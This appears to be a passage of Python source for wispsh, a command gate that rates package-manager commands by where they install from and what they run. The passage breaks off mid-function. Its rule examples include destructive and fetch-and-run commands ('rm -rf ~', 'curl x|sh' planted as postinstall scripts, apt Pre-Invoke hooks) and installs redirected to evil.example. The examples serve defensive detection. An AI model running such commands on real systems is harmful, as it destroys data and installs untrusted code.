"""Package managers and build tools: what each installs from where, what it runs, what it publishes.

A registry install is an install; a URL, a repository, another index or a path outside the project is not
(its build scripts run unreviewed). Every install verb's packages go through one judgement (`judge_spec`), so
`pip install git+https://…`, `npm install github:x/y` and `cargo install --git …` are judged alike.
"""
from __future__ import annotations

import re

from wispsh.policy import places
from wispsh.programs.delegate import hand_on, runs_operands
from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.table import Grammar, On, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re

# ---------------------------------------------------------------- what an install names

_URL = lazy_re(r"^(https?|ftp|file)://|\s@\s*(https?|file)://|^[A-Za-z0-9_.-]+\s*@\s*(https?|git\+|file)")
_VCS = lazy_re(r"^(git|hg|svn|bzr)\+|^git://|^(github|gitlab|bitbucket|gist):|\.git(#.*)?$|^git@")
_SHORTHAND = lazy_re(r"[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+(#.*)?")
ARCHIVES = (".whl", ".tar.gz", ".zip", ".tgz", ".tar.bz2")
GATE_PACKAGE = lazy_re(r"^wispsh(?:$|[\[<>=!~; @])", re.I)
GITHUB_SHORTHAND = frozenset({"npm", "pnpm", "yarn", "bun", "npx", "bunx", "pnpx"})    # read `owner/repo` as GitHub


def judge_spec(cmd, spec: str) -> None:
    """One thing to install: a registry name, a URL, a VCS address or a path. Its ids and examples are listed
    on `install_specs`, the hook most installers use; the package runners' hooks call this too."""
    tool = cmd.name
    if UNKNOWN in spec:
        cmd.does("run-code", "install.runtime", f"{tool} installs something known only at run time")
        return
    if GATE_PACKAGE.match(spec):
        cmd.does("gate", "install.gate", f"{tool} installs another wispsh: it replaces the gate")
    if _URL.search(spec) or (" @ " in spec and "://" in spec):
        cmd.does("install-foreign", "install.from-url",
                 f"{tool} installs from a URL ({spec}); its build scripts run unreviewed")
    elif _VCS.search(spec):
        cmd.does("install-foreign", "install.from-vcs",
                 f"{tool} installs from a repository ({spec}); its build scripts run unreviewed")
    elif tool in GITHUB_SHORTHAND and _SHORTHAND.fullmatch(spec):
        cmd.does("install-outside", "install.from-github", f"{tool} installs {spec} straight from GitHub")
    elif spec.startswith(("/", "./", "../", "~", "file:")) or spec in (".", "..") or spec.endswith(ARCHIVES):
        where = cmd.place(spec[5:] if spec.startswith("file:") else spec)
        if where.cls in (places.PROJECT, places.PROJECT_ROOT):
            cmd.does("run-project", "install.project", f"{tool} installs the project's own code")
        else:
            cmd.does("install-outside", "install.from-path", f"{tool} installs code from {where.path}")
    else:
        cmd.does("install", "install.registry", f"{tool} installs from the registry")


@emits({"install.runtime": ['pip install "$PKG"'], "install.gate": ["pip install wispsh", "uv add wispsh"],
        "install.from-url": ["pip install https://example.com/pkg.tar.gz", "yarn add https://example.com/x.tgz",
                             "brew install https://example.com/x.rb"],
        "install.from-vcs": ["pip install git+https://github.com/x/y.git", "npm install github:x/y",
                             "cargo install --git https://github.com/x/y", "pip install -e git+https://x.example/y"],
        "install.from-github": ["npm install x/y"], "install.project": ["pip install -e .", "cargo install --path ."],
        "install.from-path": ["pip install /tmp/pkg.whl", "cargo install --path ../other", "gem install /tmp/x.gem"],
        "install.registry": ["pip install requests", "npm install lodash", "gem install rails", "pipx install black"]})
def install_specs(cmd, o) -> None:
    """The packages an install verb names: its operands, -e/--editable, --spec, --with, --from, and cargo's
    --git and --path. Each is judged by where it comes from."""
    specs = list(o.operands) + o.all("e", "editable", "spec", "with", "from")
    specs += [url if url.startswith("git") else "git+" + url for url in o.all("git")]
    specs += [path if path.startswith(("/", ".", "~")) else "./" + path for path in o.all("path")]
    for spec in specs:
        judge_spec(cmd, spec)


@emits({"uninstall.gate": ["pip uninstall wispsh", "pipx uninstall wispsh", "uv remove wispsh"]})
def removes_the_gate(cmd, o) -> None:
    """Removing wispsh itself takes the gate away."""
    if any(GATE_PACKAGE.match(word) for word in o.operands):
        cmd.does("gate", "uninstall.gate", f"{cmd.name} removes wispsh: it takes the gate away")


INDEX_OPTIONS = ("i", "index-url", "extra-index-url", "f", "find-links", "trusted-host", "index", "default-index")


def index_row(rule: str, example: str, names=INDEX_OPTIONS) -> Row:
    """The options that make an installer fetch from another index or registry."""
    return Row(rule, "install-outside", "{cmd} installs from another index ({value})", When(value=names),
               examples=(example,))


# ---------------------------------------------------------------- pip

PIP_GRAMMAR = Grammar(
    values="rceiftCbd",
    long_values=("requirement", "constraint", "editable", "index-url", "extra-index-url", "find-links", "target",
                 "prefix", "root", "src", "trusted-host", "platform", "python-version", "implementation", "abi",
                 "no-binary", "only-binary", "progress-bar", "upgrade-strategy", "config-settings", "global-option",
                 "install-option", "report", "cache-dir", "log", "proxy", "cert", "client-cert", "timeout",
                 "retries", "exists-action", "python", "group", "dest", "d", "build", "uploaded-prior-to",
                 "keyring-provider", "index"))

PIP_INSTALL = verb(
    grammar=PIP_GRAMMAR,
    rows=(
        index_row("pip.install.index", "pip install --index-url https://evil.example/simple requests"),
        Row("pip.install.requirements", "install", "{cmd} installs what a requirements file lists",
            When(value=("r", "requirement", "c", "constraint")), examples=("pip install -r requirements.txt",)),
        Row("pip.install.unnamed", "install", "{cmd} fetches from the registry",
            When(operands=False, no_value=("r", "requirement", "e", "editable")),
            examples=("pip download --no-deps",), not_examples=("pip install x", "pip install -e .")),
    ),
    on=(On("read", ("option", "r", "requirement", "c", "constraint"), id="pip.install.reads",
           examples=("pip install -r ~/other/req.txt",)),
        On("write", ("option", "t", "target", "prefix", "root"), says="installs into", id="pip.install.into",
           examples=("pip install --target ~/.local/lib x",))),
    hook=install_specs,
)
PIP_REMOVE = verb(grammar=PIP_GRAMMAR, hook=removes_the_gate,
                  rows=(Row("pip.uninstall", "change", "{cmd} uninstalls packages", examples=("pip uninstall -y x",)),))
PIP_CONFIG = verb(
    read_only=("get", "list", "debug"),
    default=Row("pip.config.change", "steer", "{cmd} changes pip's configuration (where it installs from)",
                examples=("pip config set global.index-url https://evil.example/simple", "pip config edit")),
)
PIP = Program(
    "pip", aliases=("pip3", "pip2"), doc="the Python package installer",
    grammar=PIP_GRAMMAR,
    rows=(index_row("pip.index", "pip --index-url https://evil.example/simple install x"),),
    verbs={**dict.fromkeys(("install", "download", "wheel", "add", "sync", "compile"), PIP_INSTALL),
           "uninstall": PIP_REMOVE, "remove": PIP_REMOVE, "config": PIP_CONFIG},
    read_only=("list", "show", "freeze", "check", "search", "help", "inspect", "hash", "debug", "completion",
               "index", "cache"),
    default=Row("pip.verb", "unknown", "{cmd}", examples=("pip frobnicate",)),
    examples={"pip install requests": "moderate", "pip list": "safe", "pip install git+https://x.example/y": "dangerous",
              "pip install -e .": "moderate", "pip config set global.index-url https://x.example": "high"},
)

# ---------------------------------------------------------------- uv, uvx, pipx, poetry

UV_ENV_GRAMMAR = Grammar(values=PIP_GRAMMAR.values, long_values=PIP_GRAMMAR.long_values + ("with", "extra"))
UV_CHANGES = verb(grammar=UV_ENV_GRAMMAR,
                  rows=(index_row("uv.env.index", "uv sync --index https://evil.example/simple"),
                        Row("uv.env", "install", "{cmd} changes the environment", examples=("uv sync", "uv lock"))))
UV_READS = verb(grammar=UV_ENV_GRAMMAR, rows=(index_row("uv.reads.index", "uv tree --index https://evil.example/s"),))


@emits({"uv.pip": ["uv pip install requests"]})
def uv_pip(cmd, o) -> None:
    """`uv pip …` is pip's interface: judged as pip."""
    cmd.fired.add("uv.pip")
    cmd.delegate_to = ["pip", *o.args]


@emits({"uv.run.command": ["uv run pytest"]})
def uv_run(cmd, o) -> None:
    """`uv run [--with PKG] CMD…`: the --with packages are installs, the words a command of their own."""
    for spec in o.all("with"):
        judge_spec(cmd, spec)
    hand_on(cmd, o.operands, "uv.run.command")


UV_TOOL_INSTALL = verb(grammar=UV_ENV_GRAMMAR, hook=install_specs)
UV = Program(
    "uv", doc="the Python package and project manager",
    grammar=Grammar(values="p", long_values=("python", "directory", "project", "config-file", "cache-dir", "color")),
    verbs={
        "pip": verb(hook=uv_pip),
        "add": verb(grammar=UV_ENV_GRAMMAR, rows=(index_row("uv.add.index", "uv add --index https://evil.example x"),),
                    hook=install_specs),
        "remove": verb(grammar=UV_ENV_GRAMMAR, hook=removes_the_gate,
                       rows=(Row("uv.remove", "install", "{cmd} changes the environment", examples=("uv remove x",)),)),
        **dict.fromkeys(("sync", "lock", "venv", "init", "build", "python", "self", "format"), UV_CHANGES),
        **dict.fromkeys(("export", "tree", "version", "cache"), UV_READS),
        "run": verb(grammar=Grammar(values="p", long_values=("with", "python", "directory", "project", "extra",
                                                             "group", "env-file", "index", "with-requirements"),
                                    stop=True),
                    rows=(Row("uv.run", "run-project", "uv runs project code", examples=("uv run pytest",)),),
                    hook=uv_run),
        "tool": verb(
            verbs={"install": UV_TOOL_INSTALL, "upgrade": UV_TOOL_INSTALL,
                   "uninstall": verb(hook=removes_the_gate,
                                     rows=(Row("uv.tool.uninstall", "install", "{cmd} removes a tool",
                                               examples=("uv tool uninstall ruff",)),)),
                   "run": verb(rows=(Row("uv.tool.run", "install", "runs a tool from the registry",
                                         examples=("uv tool run ruff check",)),))},
            read_only=("list", "dir"),
            default=Row("uv.tool.verb", "install", "{cmd}", examples=("uv tool update-shell",))),
        "publish": verb(rows=(Row("uv.publish", "publish", "publishes a package", examples=("uv publish",)),)),
    },
    default=Row("uv.verb", "unknown", "{cmd}", examples=("uv frobnicate",)),
    examples={"uv sync": "moderate", "uv tree": "safe", "uv add git+https://x.example/y": "dangerous",
              "uv pip install -r requirements.txt": "moderate"},
)

@emits({"uvx.from": ["uvx --from git+https://github.com/x/y tool", "uvx --with requests tool"]})
def uvx_packages(cmd, o) -> None:
    """uvx installs what --from and --with name; its operands are the tool and the tool's arguments."""
    for spec in o.all("from", "with"):
        cmd.fired.add("uvx.from")
        judge_spec(cmd, spec)


UVX = Program(
    "uvx", doc="runs a Python tool from the registry (uv tool run)",
    grammar=Grammar(long_values=("from", "with", "python", "index"), stop=True),
    rows=(Row("uvx.runs", "install", "runs a tool from the registry", examples=("uvx ruff check",)),
          index_row("uvx.index", "uvx --index https://evil.example/simple tool", names=("index",))),
    hook=uvx_packages,
    examples={"uvx --from git+https://x.example/y tool": "dangerous"},
)

PIPX_GRAMMAR = Grammar(long_values=("spec", "index-url", "pip-args", "python", "suffix"))
PIPX_INSTALLS = verb(
    grammar=PIPX_GRAMMAR,
    rows=(Row("pipx.install", "install", "{cmd}", examples=("pipx install black",)),
          index_row("pipx.install.index", "pipx install --index-url https://evil.example/simple black",
                    names=("index-url",))),
    hook=install_specs,
)


@emits({"pipx.run.package": ["pipx run black ."]})
def pipx_run(cmd, o) -> None:
    """`pipx run APP ARGS…`: the app (or --spec) is fetched; the rest are the app's arguments."""
    for spec in o.all("spec") + o.operands[:1]:
        cmd.fired.add("pipx.run.package")
        judge_spec(cmd, spec)


PIPX = Program(
    "pipx", doc="installs and runs Python applications in their own environments",
    verbs={**dict.fromkeys(("install", "inject", "upgrade"), PIPX_INSTALLS),
           "run": verb(grammar=Grammar(long_values=PIPX_GRAMMAR.long_values, stop=True),
                       rows=(Row("pipx.run", "install", "{cmd} runs an application from the registry",
                                 examples=("pipx run black .",)),
                             index_row("pipx.run.index", "pipx run --index-url https://evil.example/simple x",
                                       names=("index-url",))),
                       hook=pipx_run),
           **dict.fromkeys(("uninstall", "reinstall"),
                           verb(hook=removes_the_gate, rows=(Row("pipx.uninstall", "install", "{cmd}",
                                                                 examples=("pipx uninstall black",)),)))},
    read_only=("list", "environment"),
    default=Row("pipx.verb", "install", "{cmd}", examples=("pipx ensurepath",)),
)

POETRY = Program(
    "poetry", aliases=("pdm", "hatch", "rye"), doc="Python project managers",
    verbs={
        "run": verb(grammar=Grammar(stop=True), hook=runs_operands,
                    rows=(Row("poetry.run", "run-project", "{cmd} runs project code", examples=("poetry run pytest",)),)),
        "add": verb(grammar=Grammar(values="GE", long_values=("group", "source", "extras", "python", "platform",
                                                              "markers")),
                    hook=install_specs),
        "publish": verb(rows=(Row("poetry.publish", "publish", "publishes a package", examples=("poetry publish",)),)),
        "source": verb(verbs={"add": verb(rows=(Row("poetry.source.add", "steer", "{cmd} adds a package source",
                                                    examples=("poetry source add evil https://evil.example/s",)),))},
                       default=Row("poetry.source", "change", "{cmd} changes poetry's sources",
                                   examples=("poetry source remove x",))),
        "config": verb(rows=(
            Row("poetry.config.repositories", "steer", "changes where poetry installs from",
                When(arg=("repositories",)), stop=True, examples=("poetry config repositories.evil https://x.example",)),
            Row("poetry.config", "change", "changes poetry's config", examples=("poetry config virtualenvs.in-project true",)),
        )),
    },
    read_only=("show", "check", "version", "env", "about", "list", "search"),
    default=Row("poetry.verb", "install", "{cmd}", examples=("poetry install", "poetry lock", "hatch build")),
)

# ---------------------------------------------------------------- npm, pnpm, yarn, bun and their runners

NPM_VALUES = ("registry", "prefix", "workspace", "w", "userconfig", "globalconfig", "cache", "tag", "otp", "scope",
              "filter", "dir", "cwd", "C", "script-shell", "node-options")
NPM_GRAMMAR = Grammar(values="wC", long_values=NPM_VALUES, longs=("version", "help", "global", "save-dev"))
NPX_GRAMMAR = Grammar(values="pcwC", long_values=NPM_VALUES + ("package", "call"), longs=("yes", "no", "quiet"),
                      stop=True)
RUNS_ANYTHING = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox",
                           "node", "python", "python3", "perl", "ruby", "deno", "bun", "pwsh"})
STEERING_CONFIG = lazy_re(r"registry|script-shell|node-options|git|proxy|cafile|strict-ssl|ignore-scripts|prefix")


@emits({"npx.package": ["npx -p typescript tsc", "npx --package=git+https://x.example/y tool"],
        "npx.call": ["npx -c 'rm -rf ~'", "npm exec --call='echo hi'"], "npx.call-runtime": ['npx -c "$CMD"'],
        "npx.runs-anything": ["npx bash", "npx node x.js"], "npx.runtime-program": ['npx "$TOOL"'],
        "npx.program": ["npx cowsay hi", "bunx cowsay"]})
def runs_package(cmd, o) -> None:
    """npx, bunx, `npm exec`: -p/--package packages are fetched, -c/--call is a shell command line, and the
    first operand is a package whose program runs with the other operands."""
    for spec in o.all("p", "package"):
        judge_spec(cmd, spec)
        cmd.does("run-unpinned", "npx.package", f"{cmd.name} fetches {spec} and runs one of its programs")
    for text in o.all("c", "call"):
        if UNKNOWN in text:
            cmd.does("run-code", "npx.call-runtime", f"{cmd.name} --call runs a command known only at run time")
        else:
            cmd.fired.add("npx.call")
            cmd.code_text(text, f"{cmd.name} --call runs", at_least=cmd.ctx.level_of("run-code", "npx.call"))
    if not o.operands:
        return
    program = o.operands[0]
    if program in RUNS_ANYTHING:
        cmd.does("run-code", "npx.runs-anything", f"{cmd.name} runs {program}, which runs anything")
    elif UNKNOWN in program:
        cmd.does("run-code", "npx.runtime-program", f"{cmd.name} runs a program known only at run time")
    else:
        cmd.fired.add("npx.program")
        judge_spec(cmd, program)
    cmd.delegate_to = list(o.operands)


@emits({"yarn.exec.command": ["yarn exec rm -rf ~"]})
def yarn_exec(cmd, o) -> None:
    """`yarn exec CMD…` runs CMD in a shell: the words are shell code, judged as such."""
    if o.args:
        cmd.fired.add("yarn.exec.command")
        cmd.code_text(" ".join(o.args), "yarn exec runs", at_least=cmd.ctx.level_of("run-project", ""))


@emits({"npm.config.steers": ["npm config set registry https://evil.example", "npm set registry https://x.example"],
        "npm.config.set": ["npm config set fund false"]})
def npm_config_key(cmd, o) -> None:
    """`npm config set KEY VALUE` (or KEY=VALUE): keys that say where packages come from or what runs scripts
    steer npm; the rest are plain settings."""
    key = (o.operands[0] if o.operands else "").split("=", 1)[0]
    if STEERING_CONFIG.search(key):
        cmd.does("steer", "npm.config.steers", f"{cmd.name} config changes {key} (where it installs from or what "
                                               f"it runs)")
    else:
        cmd.does("local-config", "npm.config.set", f"changes {cmd.name}'s config")


NPM_INSTALL = verb(
    grammar=NPM_GRAMMAR,
    rows=(index_row("npm.install.registry", "npm install --registry https://evil.example lodash", names=("registry",)),
          Row("npm.install.all", "install", "{cmd} installs the project's dependencies (their install scripts run)",
              When(operands=False), examples=("npm ci", "npm install"))),
    hook=install_specs,
)
NPM_EXEC = verb(
    grammar=NPX_GRAMMAR,
    rows=(Row("npm.exec", "install", "{cmd} runs a package from the registry", examples=("npm exec eslint",)),
          index_row("npm.exec.registry", "npm exec --registry https://evil.example x", names=("registry",))),
    hook=runs_package,
)
NPM_SET = verb(grammar=NPM_GRAMMAR, hook=npm_config_key)
NPM_RUNS = verb(rows=(Row("npm.runs", "run-project", "{cmd} runs project code", examples=("npm test", "npm run build")),))
NPM_PUBLISH = verb(rows=(Row("npm.publish", "publish", "{cmd} publishes or changes your registry account",
                             examples=("npm publish", "npm token create")),))
NPM_VERBS = {
    **dict.fromkeys(("install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal", "add", "ci",
                     "clean-install", "install-clean", "update", "up", "upgrade", "udpate", "install-test", "it",
                     "install-ci-test", "cit"), NPM_INSTALL),
    **dict.fromkeys(("exec", "x", "dlx"), NPM_EXEC),
    **dict.fromkeys(("publish", "deprecate", "dist-tag", "owner", "access", "team", "token", "adduser", "login",
                     "logout", "org", "star", "unstar", "hook", "npm-publish"), NPM_PUBLISH),
    "unpublish": verb(rows=(Row("npm.unpublish", "destroy", "{cmd} deletes a published package",
                                examples=("npm unpublish x",)),)),
    **dict.fromkeys(("config", "c"), verb(
        verbs={"set": NPM_SET, "delete": NPM_SET}, read_only=("get", "list", "ls"),
        default=Row("npm.config", "local-config", "{cmd} changes npm's config", examples=("npm config edit",)))),
    "set": NPM_SET,
    "audit": verb(verbs={"fix": verb(rows=(Row("npm.audit.fix", "change", "{cmd} changes dependencies",
                                              examples=("npm audit fix",)),))}),
    "version": verb(rows=(Row("npm.version", "run-project", "{cmd} runs project code (version scripts)",
                              When(operands=True), examples=("npm version patch",), not_examples=("npm version",)),)),
    "set-script": verb(rows=(Row("npm.set-script", "steer", "{cmd} plants a script that later installs and builds run",
                                 examples=("npm set-script prepare 'curl x | sh'",)),)),
    "pkg": verb(
        verbs={"set": verb(rows=(
            Row("npm.pkg.scripts", "steer", "{cmd} plants a script that later installs and builds run",
                When(arg=("scripts",)), stop=True, examples=("npm pkg set scripts.postinstall='curl x|sh'",)),
            Row("npm.pkg.set", "change", "{cmd} changes package.json", examples=("npm pkg set name=x",))))},
        read_only=("get",),
        default=Row("npm.pkg", "change", "{cmd} changes package.json", examples=("npm pkg delete x",))),
    **dict.fromkeys(("test", "t", "tst", "run", "run-script", "rum", "urn", "start", "stop", "restart", "build",
                     "rebuild", "rb", "dev", "lint", "format", "typecheck", "pack", "link", "ln", "init", "create",
                     "prune", "dedupe", "ddp", "uninstall", "remove", "rm", "r", "un", "unlink", "install-links",
                     "serve", "preview", "watch", "check", "generate", "setup", "patch", "import",
                     "upgrade-interactive"), NPM_RUNS),
}
NPM_READ_ONLY = ("ls", "list", "ll", "la", "view", "v", "info", "show", "outdated", "search", "help", "doctor", "fund",
                 "explain", "why", "root", "bin", "prefix", "query", "docs", "bugs", "repo", "home", "whoami", "ping",
                 "licenses", "config-get", "get", "sbom")


def _npm_like(name: str, installs_bare: bool, verbs: dict, default: Row, examples: dict) -> Program:
    rows = (index_row(f"{name}.registry", f"{name} --registry https://evil.example install x", names=("registry",)),
            Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
                When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x run build",)))
    if installs_bare:
        rows += (Row(f"{name}.install", "install", "{cmd} installs the project's dependencies",
                     When(operands=False, unless=("version", "v", "help", "h")), examples=(name,),
                     not_examples=(f"{name} -v",)),)
    return Program(name, doc=f"{name}: JavaScript packages and project scripts", grammar=NPM_GRAMMAR, rows=rows,
                   verbs=verbs, read_only=NPM_READ_ONLY, default=default, examples=examples)


NPM = _npm_like("npm", False, NPM_VERBS, Row("npm.verb", "unknown", "{cmd}", examples=("npm frobnicate",)),
                {"npm ci": "moderate", "npm ls": "safe", "npm install github:x/y": "dangerous", "npm publish": "high",
                 "npm unpublish x": "dangerous"})
SCRIPT = "{cmd} runs a project script"
PNPM = _npm_like("pnpm", True, NPM_VERBS, Row("pnpm.script", "run-project", SCRIPT, examples=("pnpm storybook",)), {})
BUN = _npm_like("bun", True, NPM_VERBS, Row("bun.script", "run-project", SCRIPT, examples=("bun frobnicate",)), {})
YARN = _npm_like("yarn", True, {**NPM_VERBS, "exec": verb(rows=(Row("yarn.exec", "run-project", "yarn exec runs a "
                                                                    "command", examples=("yarn exec eslint",)),),
                                                          hook=yarn_exec)},
                 Row("yarn.script", "run-project", SCRIPT, examples=("yarn storybook",)), {"yarn": "moderate"})


def _runner(name: str) -> Program:
    return Program(
        name, doc=f"{name}: fetches a package from the registry and runs its program",
        grammar=NPX_GRAMMAR,
        rows=(Row(f"{name}.runs", "install", "{cmd} runs a package from the registry", When(operands=True),
                  examples=(f"{name} cowsay",), not_examples=(name,)),
              index_row(f"{name}.registry", f"{name} --registry https://evil.example x", names=("registry",)),
              Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
                  When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x x",))),
        hook=runs_package,
    )


NPX, BUNX, PNPX = _runner("npx"), _runner("bunx"), _runner("pnpx")

# ---------------------------------------------------------------- cargo, go

CARGO_GRAMMAR = Grammar(values="Zpj", long_values=("config", "manifest-path", "target-dir", "color", "package",
                                                   "features", "git", "path", "branch", "tag", "rev", "registry",
                                                   "index", "root", "bin", "example", "jobs", "profile", "target",
                                                   "version"),
                        longs=("locked", "frozen", "offline", "release", "all-features", "workspace", "force"))
CARGO_INSTALL = verb(
    grammar=CARGO_GRAMMAR,
    rows=(index_row("cargo.install.registry", "cargo install --registry evil x", names=("registry", "index")),
          Row("cargo.install.unnamed", "install", "{cmd}", When(operands=False, no_value=("git", "path")),
              examples=("cargo install",), not_examples=("cargo install x",))),
    on=(On("write", ("option", "root"), says="installs into", id="cargo.install.root",
           examples=("cargo install --root ~/.local ripgrep",)),),
    hook=install_specs,
)
CARGO = Program(
    "cargo", doc="Rust's build tool and package manager",
    grammar=CARGO_GRAMMAR,
    rows=(Row("cargo.config", "run-code", "cargo --config can set a program to run", When(value=("config",)),
              examples=("cargo --config build.rustc-wrapper=/tmp/x build",)),),
    verbs={"install": CARGO_INSTALL, "add": CARGO_INSTALL,
           **dict.fromkeys(("publish", "yank", "owner", "login", "logout"), verb(rows=(
               Row("cargo.publish", "publish", "{cmd} publishes or changes your registry account",
                   examples=("cargo publish",)),)))},
    read_only=("version", "help", "tree", "metadata", "search", "locate-project", "pkgid", "verify-project",
               "read-manifest", "info"),
    default=Row("cargo.builds", "run-project", "{cmd} builds or runs project code", examples=("cargo build",)),
    examples={"cargo build": "moderate", "cargo --locked build": "moderate", "cargo tree": "safe"},
)

_GO_REMOTE = lazy_re(r"[a-z0-9.-]+\.[a-z]{2,}/")


def _remote_module(target: str) -> bool:
    return "@" in target or bool(_GO_REMOTE.match(target)) and not target.startswith(".")


@emits({"go.run.remote": ["go run github.com/x/y@latest", "go run example.com/cmd/x"]})
def go_run_remote(cmd, o) -> None:
    """`go run MODULE@VERSION` downloads a module and runs it."""
    target = o.operands[0] if o.operands else ""
    if _remote_module(target):
        cmd.does("run-unpinned", "go.run.remote", f"go run downloads and runs {target}")


@emits({"go.install.remote": ["go install github.com/x/y@latest"]})
def go_install_remote(cmd, o) -> None:
    """`go install MODULE@VERSION` builds and installs a program from outside the project."""
    for target in o.operands:
        if _remote_module(target):
            cmd.does("install-outside", "go.install.remote", f"go install fetches and builds {target}")


GO_BUILDS = Row("go.builds", "run-project", "{cmd} builds or runs project code", examples=("go build ./...",))
GO = Program(
    "go", doc="Go's build tool",
    rows=(Row("go.toolexec", "run-code", "go runs another program (-toolexec/-exec)",
              When(arg=("-toolexec", "--toolexec", "-exec", "--exec")), examples=("go test -exec /tmp/x ./...",)),),
    verbs={
        "env": verb(rows=(Row("go.env.write", "steer", "go env -w changes go's settings (GOPROXY, GOFLAGS)",
                              When(flag=("w", "u")), examples=("go env -w GOPROXY=https://evil.example",)),)),
        "run": verb(rows=(Row("go.run", "run-project", "{cmd} builds or runs project code", examples=("go run .",)),),
                    hook=go_run_remote),
        "install": verb(rows=(Row("go.install", "run-project", "{cmd} builds or runs project code",
                                  examples=("go install ./cmd/x",)),), hook=go_install_remote),
    },
    read_only=("version", "help", "doc", "list", "vet-help"),
    default=GO_BUILDS,
)

# ---------------------------------------------------------------- gem, bundle, conda, composer

GEM = Program(
    "gem", doc="Ruby's package manager",
    verbs={
        "install": verb(grammar=Grammar(values="s", long_values=("source", "install-dir", "bindir")),
                        rows=(index_row("gem.install.source", "gem install --source https://evil.example x",
                                        names=("s", "source")),),
                        hook=install_specs),
        "open": verb(grammar=Grammar(values="e", long_values=("editor",)), rows=(
            Row("gem.open.editor", "run-code", "gem runs the editor command it is given (-e)",
                When(value=("e", "editor")), stop=True, examples=("gem open -e 'sh -c id' x",)),
            Row("gem.open", "session", "opens a gem in an editor", examples=("gem open x",)))),
        **dict.fromkeys(("push", "yank", "owner", "signin"), verb(rows=(
            Row("gem.publish", "publish", "{cmd} publishes or changes your account", examples=("gem push x.gem",)),))),
        "sources": verb(grammar=Grammar(values="ar", long_values=("add", "remove")), rows=(
            Row("gem.sources.add", "steer", "gem sources --add changes where gems install from",
                When(value=("a", "add")), examples=("gem sources --add https://evil.example",)),
            Row("gem.sources.change", "change", "gem sources changes where gems install from",
                When(flag=("r", "remove", "c", "clear-all", "u", "update")), examples=("gem sources -r https://x",)))),
    },
    read_only=("list", "search", "info", "query", "environment", "help", "contents", "specification", "which",
               "outdated"),
    default=Row("gem.verb", "install", "{cmd}", examples=("gem update", "gem build x.gemspec")),
)

BUNDLE = Program(
    "bundle", aliases=("bundler",), doc="Ruby's dependency manager",
    verbs={**dict.fromkeys(("exec", "ex"), verb(grammar=Grammar(stop=True), hook=runs_operands, rows=(
        Row("bundle.exec", "run-project", "bundle exec runs project code", examples=("bundle exec rspec",)),)))},
    read_only=("list", "show", "info", "outdated", "check", "version"),
    default=Row("bundle.verb", "install", "{cmd}", examples=("bundle install", "bundle update")),
    no_verb=Row("bundle.install", "install", "bundle installs the project's gems", examples=("bundle",)),
)

KNOWN_CHANNELS = frozenset({"conda-forge", "defaults", "bioconda", "pytorch", "nvidia"})


@emits({"conda.channel": ["conda install -c evilchan numpy", "conda install --channel evilchan numpy"]})
def conda_channels(cmd, o) -> None:
    """A channel other than the well-known ones is another index."""
    for channel in o.all("c", "channel"):
        if channel not in KNOWN_CHANNELS:
            cmd.does("install-outside", "conda.channel", f"conda installs from channel {channel}")


CONDA_CHANGES = verb(grammar=Grammar(values="cnp", long_values=("channel", "name", "prefix", "file")),
                     rows=(Row("conda.change", "install", "{cmd}", examples=("conda install numpy",)),),
                     hook=conda_channels)
CONDA = Program(
    "conda", aliases=("mamba", "micromamba"), doc="the conda package and environment manager",
    verbs={
        **dict.fromkeys(("install", "create", "update", "upgrade", "remove", "uninstall"), CONDA_CHANGES),
        "env": verb(verbs=dict.fromkeys(("create", "update", "remove"), verb(rows=(
            Row("conda.env.change", "install", "conda changes environments", examples=("conda env create -f env.yml",)),
        )))),
        "run": verb(grammar=Grammar(values="np", long_values=("name", "prefix", "cwd"), stop=True), hook=runs_operands,
                    rows=(Row("conda.run", "run-project", "conda runs a command in an environment",
                              examples=("conda run -n x python x.py",)),)),
        "config": verb(grammar=Grammar(long_values=("get", "add", "append", "prepend", "set", "remove", "file")),
                       rows=(Row("conda.config.show", "nothing", "conda config shows settings",
                                 When(flag=("show", "show-sources", "describe", "validate", "get"), unless=("add", "set",
                                      "append", "prepend", "remove")), stop=True, examples=("conda config --show",)),
                             Row("conda.config", "steer", "changes conda's configuration",
                                 examples=("conda config --add channels evil",)))),
    },
    read_only=("list", "info", "search"),
    default=Row("conda.verb", "install", "{cmd}", examples=("conda activate x",)),
)

COMPOSER_SOURCES = Row("composer.config.sources", "steer", "composer config changes where it installs from",
                       When(arg=("repositor", "secure-http")), examples=("composer config secure-http false",))
COMPOSER = Program(
    "composer", doc="PHP's dependency manager",
    verbs={"config": verb(rows=(COMPOSER_SOURCES, Row("composer.config", "install", "{cmd}",
                                                      examples=("composer config process-timeout 0",)))),
           "global": verb(rows=(Row("composer.global.sources", "steer", "composer config changes where it installs from",
                                    When(arg=("repositor", "secure-http")),
                                    examples=("composer global config repositories.x vcs https://x.example",)),
                                Row("composer.global", "install", "{cmd}", examples=("composer global require x",))))},
    read_only=("show", "info", "outdated", "licenses", "depends", "why", "search", "validate"),
    default=Row("composer.verb", "install", "{cmd}", examples=("composer require x/y", "composer update")),
    no_verb=Row("composer.install", "install", "composer installs the project's dependencies", examples=("composer",)),
)

TWINE = Program(
    "twine", doc="uploads Python packages",
    verbs=dict.fromkeys(("upload", "publish", "push", "release"), verb(rows=(
        Row("twine.upload", "publish", "twine publishes a package", examples=("twine upload dist/*",)),))),
    read_only=("check",),
    default=Row("twine.verb", "unknown", "{cmd}", examples=("twine register x",)),
)

# ---------------------------------------------------------------- the system's package managers

APT_GRAMMAR = Grammar(values="ocSt", long_values=("option", "config-file", "target-release", "root"))
RUNS_A_COMMAND = lazy_re(r"(Pre|Post)-Invoke|Pager|Post-Invoke-Success|DPkg::", re.I)
PACKAGE_FILE = (".deb", ".rpm", ".apk", ".pkg.tar.zst")


@emits({"apt.option-runs": ["apt-get -o APT::Update::Pre-Invoke::=/tmp/x update",
                            "apt-get install -o 'Dpkg::Pre-Invoke::=id' x"]})
def apt_options(cmd, o) -> None:
    """-o Pre-Invoke/Post-Invoke/Pager options run a command, before or after the verb."""
    for option in APT_GRAMMAR.read(o.args).all("o", "option"):
        if RUNS_A_COMMAND.search(option):
